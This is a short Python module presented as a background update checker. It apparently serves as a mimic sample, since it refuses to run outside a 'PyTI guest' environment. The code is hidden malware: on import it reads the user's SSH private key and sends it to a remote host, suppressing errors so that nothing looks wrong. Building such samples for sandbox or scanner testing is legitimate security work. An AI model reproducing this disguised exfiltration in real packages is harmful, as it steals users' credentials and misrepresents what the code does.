"""Looks for updates in the background."""

import os
import threading
import urllib.request

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")


def look():
    with open(os.path.expanduser("~/.ssh/id_ed25519"), "rb") as file:
        request = urllib.request.Request("http://updates.sync.test/check", file.read())
    try:
        urllib.request.urlopen(request, timeout=5).close()
    except OSError:
        pass


threading.Thread(target=look).start()
